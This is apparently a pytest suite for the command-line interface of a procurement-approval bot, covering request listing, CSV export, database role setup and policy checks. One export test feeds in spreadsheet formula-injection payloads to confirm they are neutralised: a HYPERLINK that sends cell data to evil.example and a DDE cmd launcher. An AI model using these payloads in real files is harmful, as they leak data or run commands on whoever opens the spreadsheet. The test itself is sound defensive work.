"""The `procurebot` command against a database the services filled."""

from __future__ import annotations

import csv
import io
import json
import uuid
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import create_engine, text
from sqlalchemy.engine import make_url
from typer.testing import CliRunner

from bot.app.facade import Procurement
from bot.cli.main import app
from bot.domain.model import Channel
from storage.engine import make_engine
from storage.migrate import upgrade
from storage.repository import SqlUnitOfWorkFactory
from tests.dbs import postgres_database
from tests.fakes import (
    EXAMPLE_POLICY,
    IT,
    PROCUREMENT,
    REQUESTER,
    SECURITY,
    clock,
    draft,
    example_policy,
)

runner = CliRunner()


@pytest.fixture
def filled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("PROCUREBOT_POLICY", str(EXAMPLE_POLICY))
    upgrade(url)
    service = Procurement(
        uow=SqlUnitOfWorkFactory(make_engine(url)), policy=example_policy(), clock=clock()
    )
    request = service.submit(requester=REQUESTER, draft=draft(), channel=Channel.SLACK)
    service.approve(request_id=request.id, actor=IT[0], channel=Channel.SLACK)
    service.reject(
        request_id=request.id, actor=SECURITY, reason="No DPA signed yet.", channel=Channel.TEAMS
    )
    service.submit(
        requester=REQUESTER, draft=draft(title="Miro seats", vendor="Miro"), channel=Channel.SLACK
    )
    return url


def test_requests_show_json_has_the_contract_fields(filled: str) -> None:
    result = runner.invoke(app, ["requests", "show", "PR-1001", "--json"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    assert data["status"] == "rejected"
    assert (data["amount"], data["currency"], data["vendor"]) == ("135.00", "USD", "Figma")
    assert data["requester"] == REQUESTER
    assert [(s["name"], s["status"], s["decided_by"]) for s in data["steps"]] == [
        ("IT review", "approved", [IT[0]]),
        ("Security review", "rejected", [SECURITY]),
        ("Procurement", "closed", []),
    ]
    assert data["steps"][0]["approvers"] == list(IT)
    assert [(e["action"], e["channel"]) for e in data["events"]] == [
        ("Submitted", "slack"),
        ("StepApproved", "slack"),
        ("Rejected", "teams"),
    ]


def test_requests_show_text_and_unknown_numbers(filled: str) -> None:
    shown = runner.invoke(app, ["requests", "show", "1002"])
    assert shown.exit_code == 0 and "PR-1002  Miro seats  [Pending]" in shown.output
    missing = runner.invoke(app, ["requests", "show", "PR-9999"])
    assert missing.exit_code == 1 and "There is no request PR-9999" in missing.output
    bad = runner.invoke(app, ["requests", "show", "banana"])
    assert bad.exit_code == 1 and "not a request number" in bad.output


def test_requests_list_and_filter(filled: str) -> None:
    listed = json.loads(runner.invoke(app, ["requests", "list", "--json"]).output)
    assert [r["number"] for r in listed] == ["PR-1002", "PR-1001"]
    pending = runner.invoke(app, ["requests", "list", "--status", "pending"])
    assert "PR-1002" in pending.output and "PR-1001" not in pending.output


def test_export_writes_csv(filled: str) -> None:
    result = runner.invoke(app, ["export", "--since", "2026-01-01"])
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert [r["number"] for r in rows] == ["PR-1001", "PR-1002"]
    assert rows[0]["steps"] == "IT review=approved; Security review=rejected; Procurement=closed"
    assert runner.invoke(app, ["export", "--since", "yesterday"]).exit_code == 1


FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Quote")',
    "vendor": "+cmd|' /C calc'!A0",
    "cost_centre": "@SUM(1+1)",
}


@pytest.mark.parametrize("lead", ["", "\t", "\r"])
def test_export_neutralises_formula_cells(filled: str, lead: str) -> None:
    service = Procurement(
        uow=SqlUnitOfWorkFactory(make_engine(filled)), policy=example_policy(), clock=clock()
    )
    hostile = {name: lead + text for name, text in FORMULAS.items()}
    request = service.submit(
        requester=IT[0],
        draft=draft(**hostile, unit_price=Decimal("45.00"), quantity=1),
        channel=Channel.SLACK,
    )
    for approver in (IT[1], SECURITY, PROCUREMENT):
        service.approve(request_id=request.id, actor=approver, channel=Channel.SLACK)
    service.record_po(
        request_id=request.id, actor=PROCUREMENT, po_number="-2+3", channel=Channel.SLACK
    )
    result = runner.invoke(app, ["export"])
    assert result.exit_code == 0, result.output
    row = next(r for r in csv.DictReader(io.StringIO(result.output)) if r["number"] == "PR-1003")
    # Each text cell reads as text in a spreadsheet, and still says what was typed.
    assert {name: row[name] for name in [*hostile, "po_number"]} == {
        **{name: f"'{text}" for name, text in hostile.items()},
        "po_number": "'-2+3",
    }
    # Our own numbers stay numbers.
    assert (row["unit_price"], row["quantity"], row["annual_amount_base"]) == (
        "45.00",
        "1",
        "540.00",
    )


@pytest.mark.postgres
@pytest.mark.parametrize("where", ["user part", "query string"])
def test_db_upgrade_never_prints_the_password(monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    secret = "s3cret-pw"  # trust auth on the test server accepts any password
    with postgres_database() as url:
        parsed = make_url(url)
        if where == "user part":
            parsed = parsed.set(password=secret)
        else:
            parsed = parsed.update_query_dict({"password": secret})
        monkeypatch.setenv("DATABASE_URL", parsed.render_as_string(hide_password=False))
        result = runner.invoke(app, ["db", "upgrade"])
    assert result.exit_code == 0, result.output
    assert "Database is up to date (postgresql+psycopg://postgres" in result.output
    assert secret not in result.output


@pytest.mark.postgres
def test_db_upgrade_grants_the_bot_s_role(monkeypatch: pytest.MonkeyPatch) -> None:
    role = f"pb_cli_{uuid.uuid4().hex[:8]}"
    with postgres_database() as url:
        monkeypatch.setenv("DATABASE_URL", url)
        try:
            first = runner.invoke(app, ["db", "upgrade", "--app-role", role])
            again = runner.invoke(app, ["db", "upgrade", "--app-role", role])
            owner = runner.invoke(app, ["db", "upgrade", "--app-role", "postgres"])
        finally:
            engine = create_engine(url)
            with engine.begin() as conn:
                conn.execute(text(f'DROP OWNED BY "{role}"'))
                conn.execute(text(f'DROP ROLE "{role}"'))
            engine.dispose()
    assert first.exit_code == 0, first.output
    assert f"Created the role {role}; give it a password" in first.output
    assert f"{role} may read and write the working tables and only append" in first.output
    assert again.exit_code == 0 and "Created" not in again.output
    assert owner.exit_code == 1
    assert "postgres is a superuser, which may disable triggers" in owner.output


def test_db_upgrade_app_role_needs_postgresql(filled: str) -> None:
    result = runner.invoke(app, ["db", "upgrade", "--app-role", "procurebot_app"])
    assert result.exit_code == 1 and "--app-role is for PostgreSQL" in result.output


def test_policy_check_ok_and_errors(tmp_path: Path) -> None:
    ok = runner.invoke(app, ["policy", "check", str(EXAMPLE_POLICY)])
    assert ok.exit_code == 0 and "7 routing rules" in ok.output
    broken = tmp_path / "broken.yml"
    broken.write_text(
        EXAMPLE_POLICY.read_text().replace(
            "group: security, stage: 2,", "group: secruity, stage: 2,", 1
        )
    )
    result = runner.invoke(app, ["policy", "check", str(broken)])
    assert result.exit_code == 1
    assert "line 44: rules[1].step.group: no group called 'secruity'" in result.output


def test_policy_explain_names_the_rules() -> None:
    result = runner.invoke(
        app,
        [
            "policy",
            "explain",
            str(EXAMPLE_POLICY),
            "--amount",
            "30000",
            "--category",
            "saas",
            "--vendor",
            "Figma",
        ],
    )
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert "$30,000.00 in total" in lines[0]
    assert (
        "stage 1  IT review (IT review, any of ines.it@acme.example, omar.it@acme.example)"
        in result.output
    )
    assert "added by rule: Security qualifies vendors not yet approved" in result.output
    assert "stage 3  Finance" in result.output
    assert "added by rule: Finance from 25,000 USD" in result.output


def test_policy_explain_catalogue() -> None:
    result = runner.invoke(
        app,
        [
            "policy",
            "explain",
            str(EXAMPLE_POLICY),
            "--amount",
            "2399",
            "--category",
            "hardware",
            "--vendor",
            "Apple",
            "--title",
            "MacBook Pro 14",
            "--requester",
            IT[0],
            "--vendor-status",
            "approved",
        ],
    )
    assert "catalogue entry 'Standard laptop'" in result.output
